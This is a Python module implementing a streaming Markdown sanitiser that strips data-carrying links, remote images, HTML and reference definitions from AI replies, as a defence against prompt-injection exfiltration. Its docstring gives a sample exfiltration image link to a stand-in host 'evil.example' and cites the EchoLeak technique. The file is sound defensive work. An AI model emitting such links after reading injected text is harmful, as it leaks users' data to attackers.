r"""Markdown for people, without what carries data out or hides where it leads.

A model that read hostile text may write ``![](https://evil.example/?q=<your data>)``, and a reader's page fetches it.
So, outside code: remote pictures become words, a link shows its target, a target that carries data loses it, HTML and
schemes other than http(s) and mailto become text, and nothing becomes a reference definition (EchoLeak's way,
CVE-2025-32711). For people alone: what programs get at the API is never changed.

What is safe is decided the other way round: ``](``, ``]:`` and ``<x`` reach the reader only inside code or where
markdown-it-py itself parsed a link that is then judged; anywhere else one backslash or entity makes them text. A
stripper that looks for links misses ``<url>``, padding and references; this one has nothing to miss.

Streams: text goes through at once. Held back is only what begins like a link, tag, code span or address, until it ends,
its line ends, or 4,096 characters have come. However a text is cut, the result is the same.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from causeway.guard.addresses import MOST_HOST_LABEL, carries_data, scheme_of
from causeway.guard.code_fence import Fence
from causeway.seams import deferred

if TYPE_CHECKING:
    import markdown_it
    from markdown_it.token import Token
else:
    markdown_it = deferred("markdown_it")

_SPECIAL = re.compile(r"[\[\]<`\\\n]|!(?=\[|\Z)|://|:/?\Z|~~~|~{1,2}\Z")
_LONGEST_HELD = 4_096
_LONGEST_LABEL = 512
_DEEPEST_LABEL = 8
_MOST_CLOSINGS = 8
"""Parentheses in a link that are tried as its end."""
_URL_END = re.compile(r"[\s<>\"'`\[\]{}|\\^]")
_AUTOLINK = re.compile(
    r"<(?:(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)|[A-Za-z0-9.!#$%&'*+/=?^_{|}~-]+@[A-Za-z0-9.-]+)>"
)
_HARMLESS_TAG = re.compile(r"</?(?:br|hr|sub|sup|kbd|b|i|em|strong|u|s)\s{0,2}/?>", re.IGNORECASE)
_LIVE = re.compile(r"\]\(|\]:|<[A-Za-z/!?]|://")
_LINE_START = re.compile(r"[ \t>*+\-0-9.)]*")
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_SCHEMES = frozenset(("http", "https", "mailto"))


class MarkdownFilter:
    """Filters one reply, whole or in pieces.

    Args:
        hosts: Hosts whose pictures and links are left as they are: the operator's own.
    """

    def __init__(self, hosts: Iterable[str] = ()) -> None:
        self.removed: dict[str, int] = {}
        self._hosts = frozenset(host.lower() for host in hosts)
        self._parser = markdown_it.MarkdownIt("commonmark")
        self._held = ""
        self._line = ""
        self._fence: Fence | None = None
        self._has_lost_fence = False
        self._has_open_label = False
        self._has_divided_span = False

    def feed(self, piece: str) -> str:
        """What can be shown now that ``piece`` has come."""
        self._held += piece
        return self._advance(is_last=False)

    def end(self) -> str:
        """What is left."""
        return self._advance(is_last=True)

    def whole(self, text: str) -> str:
        """A whole reply, filtered."""
        pieces = [
            self.feed(text[start : start + _LONGEST_HELD]) for start in range(0, len(text), _LONGEST_HELD)
        ]
        return "".join([*pieces, self.end()])

    def _advance(self, *, is_last: bool) -> str:
        shown: list[str] = []
        while self._held:
            if self._fence is not None or not self._line.strip(" "):
                taken = self._code_line(is_last=is_last)
                if taken is None:
                    break
                if taken:
                    shown.append(self._take(taken, self._held[:taken]))
                    continue
            special = _SPECIAL.search(self._held)
            plain = special.start() if special else len(self._held)
            if plain:
                shown.append(self._take(plain, self._held[:plain]))
            if special is None:
                break
            judged = self._judge(special[0][0], is_last=is_last)
            if judged is None:
                break
            shown.append(self._take(*judged))
        return "".join(shown)

    def _take(self, length: int, shown: str) -> str:
        """Move past ``length`` characters that are shown as ``shown``."""
        source, self._held = self._held[:length], self._held[length:]
        before, newline, after = source.rpartition("\n")
        self._has_divided_span = self._has_divided_span and not newline
        if newline and not (before + self._line).strip():
            self._has_open_label = False
        self._line = (after if newline else self._line + source)[-_LONGEST_HELD:]
        return shown

    # --- blocks of code --------------------------------------------------------------------------------

    def _code_line(self, *, is_last: bool) -> int | None:
        """How much of what is held is a line of code or of its fence: 0 for none, None when more must come."""
        line, newline, _ = self._held.partition("\n")
        is_whole = bool(newline) or is_last
        may_wait = not is_whole and len(line) < _LONGEST_HELD
        length = len(line) + len(newline)
        full = self._line + line
        stripped = full.lstrip(" ")
        indent = len(full) - len(stripped)
        if self._fence is None:
            return self._opens(stripped, indent, length, is_whole=is_whole, may_wait=may_wait)
        fence = self._fence
        if may_wait and (not stripped or not stripped.strip(fence.mark + " \t")):
            return None
        if stripped.strip() and (indent < fence.indent or (is_whole and fence.may_close(stripped, indent))):
            # either a list's block ended here, or code of a block at the margin goes on: nobody can tell which, so
            # from here on no fence counts, and none is let through
            self._fence, self._has_lost_fence = None, True
            return 0
        if is_whole and fence.closes(stripped, indent):
            self._fence = None
        return length

    def _opens(
        self, stripped: str, indent: int, length: int, *, is_whole: bool, may_wait: bool
    ) -> int | None:
        mark = stripped[:1]
        if mark not in ("`", "~") or indent > 3 or self._has_lost_fence:
            return 0
        run = len(stripped) - len(stripped.lstrip(mark))
        if run == len(stripped) and may_wait:
            return None
        if run < 3:
            return 0
        if may_wait:
            return None
        # with a row of dashes below, what has a bar in it is the head of a table, which comes before a fence
        if not is_whole or "|" in stripped or (mark == "`" and "`" in stripped[run:]):
            return 0
        self._fence = Fence(mark, run, indent)
        return length

    # --- inside a line ---------------------------------------------------------------------------------

    def _judge(self, character: str, *, is_last: bool) -> tuple[int, str] | None:
        """How much of what is held is decided and what it is shown as; None when more must come."""
        is_cut = is_last or "\n" in self._held or len(self._held) >= _LONGEST_HELD
        match character:
            case "\n":
                return 1, "\n"
            case "\\":
                return self._escape(is_cut=is_cut)
            case "`":
                return self._code_span(is_cut=is_cut)
            case "<":
                return self._tag(is_cut=is_cut)
            case "!" | "[":
                return self._link(is_cut=is_cut)
            case "]":
                return self._bracket(is_cut=is_cut)
            case ":":
                return self._address(is_cut=is_cut)
            case _:
                return self._tildes(is_cut=is_cut)

    def _held_line(self) -> str:
        """What is held of the current line."""
        return self._held[:_LONGEST_HELD].partition("\n")[0]

    def _tildes(self, *, is_cut: bool) -> tuple[int, str] | None:
        """Tildes that are no fence of ours must be none to the reader either."""
        if not self._held.startswith("~~~"):
            return None if not is_cut and "~~~".startswith(self._held) else (1, "~")
        return 1, "~" if self._line.strip(" ") else "\\~"

    def _escape(self, *, is_cut: bool) -> tuple[int, str] | None:
        if len(self._held) == 1:
            return (1, "\\") if is_cut else None
        return (2, self._held[:2]) if self._held[1] in _PUNCTUATION else (1, "\\")

    def _code_span(self, *, is_cut: bool) -> tuple[int, str] | None:
        line = self._held_line()
        run = len(line) - len(line.lstrip("`"))
        if run == len(line) and not is_cut:
            return None
        for match in re.finditer("`+", line[run:]):
            if len(match[0]) == run:
                length = run + match.end()
                if length == len(line) and not is_cut:
                    return None  # the closing run may go on
                return self._span(line[:length], run)
        # with a run of the next line it would make a code span, and these two are judged line by line
        return (run, "\\`" * run) if is_cut else None

    def _span(self, source: str, run: int) -> tuple[int, str]:
        """A code span as it is, unless a table may divide it: tables look for cells before they look for code."""
        is_divided = self._has_divided_span or "|" in source
        if is_divided and _LIVE.search(source):
            return run, "\\`" * run
        self._has_divided_span = is_divided
        return len(source), source

    def _tag(self, *, is_cut: bool) -> tuple[int, str] | None:
        line = self._held_line()
        if len(line) == 1:
            if not is_cut:
                return None
            return 1, "&lt;" if "\n" in self._held else "<"
        if not (line[1].isalpha() or line[1] in "/!?"):
            return 1, "<"
        if ">" not in line:
            return self._removed("html", 1, "&lt;") if is_cut else None
        source = line[: line.index(">") + 1]
        # at the start of a line a tag makes all that follows HTML, up to the next empty line
        if _HARMLESS_TAG.fullmatch(source) and not _LINE_START.fullmatch(self._line):
            return len(source), source
        autolink = _AUTOLINK.fullmatch(source)
        if autolink is None:
            return self._removed("html", 1, "&lt;")
        if autolink["url"] is None or self._is_own(autolink["url"]):
            return len(source), source
        if _URL_END.search(autolink["url"]):  # without the brackets around it, it would be Markdown again
            return self._removed("html", 1, "&lt;")
        return len(source), self._visible(autolink["url"])

    def _link(self, *, is_cut: bool) -> tuple[int, str] | None:
        line = self._held_line()
        opening = 1 if line.startswith("!") else 0
        if len(line) == opening:
            return (1, "!") if is_cut else None
        close = _closing_bracket(line, opening)
        if close is None or close + 1 == len(line):
            if not is_cut:
                return None
        elif line[close + 1] == "(":
            end, token = self._parsed(line, close)
            if token is not None:
                return end, self._shown(
                    token, line[: opening + 1], line[opening + 1 : close], line[close:end]
                )
            if not is_cut:
                return None
        self._has_open_label = _LINE_START.fullmatch(self._line) is not None and not opening
        return opening + 1, line[: opening + 1]

    def _bracket(self, *, is_cut: bool) -> tuple[int, str] | None:
        following = self._held[1:2]
        if not following and not is_cut:
            return None
        has_label, self._has_open_label = self._has_open_label, False
        if following == "(":
            return self._removed("link", 2, "]\\(")
        if following == ":" and has_label:
            return self._removed("reference", 2, "]\\:")
        return 1, "]"

    def _address(self, *, is_cut: bool) -> tuple[int, str] | None:
        if not self._held.startswith("://"):
            return (1, ":") if is_cut or not "://".startswith(self._held) else None
        end = _URL_END.search(self._held)
        if end is None and not is_cut:
            return None
        length = min(end.start() if end else len(self._held), _LONGEST_HELD)
        scheme = re.search(r"[A-Za-z]*\Z", self._line)
        name = scheme[0] if scheme else ""
        url = name + self._held[:length]
        if self._is_own(url):
            return length, self._held[:length]
        return length, self._visible(url)[len(name) :]

    def _parsed(self, line: str, close: int) -> tuple[int, Token | None]:
        """The link or picture that ``line`` begins with, by the parser, and where its source ends."""
        end = close
        for _ in range(_MOST_CLOSINGS):
            end = line.find(")", end) + 1
            if not end:
                break
            children = self._parser.parseInline(line[:end])[0].children or []
            first = children[0] if children else None
            if first is None:
                continue
            if first.type == "image" and len(children) == 1:
                return end, first
            if first.type == "link_open" and children[-1].type == "link_close" and _is_one_link(children):
                return end, first
        return 0, None

    def _shown(self, token: Token, opening: str, label: str, rest: str) -> str:
        """What a reader gets of a link or picture, whose source is ``opening`` + ``label`` + ``rest``."""
        target = str(token.attrGet("src") or token.attrGet("href") or "")
        inner = MarkdownFilter(self._hosts)
        words = inner.whole(label)
        for kind, count in inner.removed.items():
            self.removed[kind] = self.removed.get(kind, 0) + count
        if self._is_own(target):
            return f"{opening}{words}{rest}"
        if token.type == "image":
            self._count("picture")
            return f"(picture removed: {words})" if words.strip() else "(picture removed)"
        if scheme_of(target) not in _SCHEMES:
            self._count("link")
            return words
        visible = self._visible(target)
        if words in (target, visible):
            return visible
        self._count("link")
        return f"{words} ({visible})"

    def _is_own(self, target: str) -> bool:
        """Whether a target is a place on the page's own host, or one of the operator's."""
        try:
            parts = urlsplit(target.strip())
            host = parts.hostname
        except ValueError:
            return False
        if parts.scheme.lower() in ("http", "https") and host:
            return host.lower() in self._hosts and parts.username is None
        return not parts.scheme and not target.lstrip().startswith(("//", "\\", "/\\")) and ":" not in target

    def _visible(self, target: str) -> str:
        """A target as text, without what can carry data."""
        try:
            parts = urlsplit(target)
            host = parts.hostname or ""
        except ValueError:
            self._count("link")
            return "(link removed)"
        if parts.scheme.lower() == "mailto":
            return f"mailto:{parts.path}"
        if parts.username is None and not carries_data(host, parts.path, parts.query + parts.fragment):
            return target
        self._count("address")
        if any(len(label) > MOST_HOST_LABEL for label in host.split(".")):
            return f"{parts.scheme}://(address removed)"
        kept = parts.path if not carries_data("", parts.path, "") else "/"
        return f"{parts.scheme}://{host}{kept}"

    def _removed(self, kind: str, length: int, shown: str) -> tuple[int, str]:
        self._count(kind)
        return length, shown

    def _count(self, kind: str) -> None:
        self.removed[kind] = self.removed.get(kind, 0) + 1


def _closing_bracket(line: str, opening: int) -> int | None:
    """Where the bracket at ``opening`` is closed; None when it is not in this line."""
    depth = 0
    position = opening
    last = line.find("]", opening)
    while last >= 0 and position < min(len(line), opening + _LONGEST_LABEL):
        character = line[position]
        if character == "\\":
            position += 1
        elif character == "[":
            depth += 1
            if depth > _DEEPEST_LABEL:
                return None
        elif character == "]":
            depth -= 1
            if depth == 0:
                return position
        position += 1
    return None


def _is_one_link(tokens: list[Token]) -> bool:
    """Whether the first token's link closes with the last."""
    depth = 0
    for place, token in enumerate(tokens):
        depth += token.nesting
        if depth == 0 and token.type == "link_close":
            return place == len(tokens) - 1
    return False
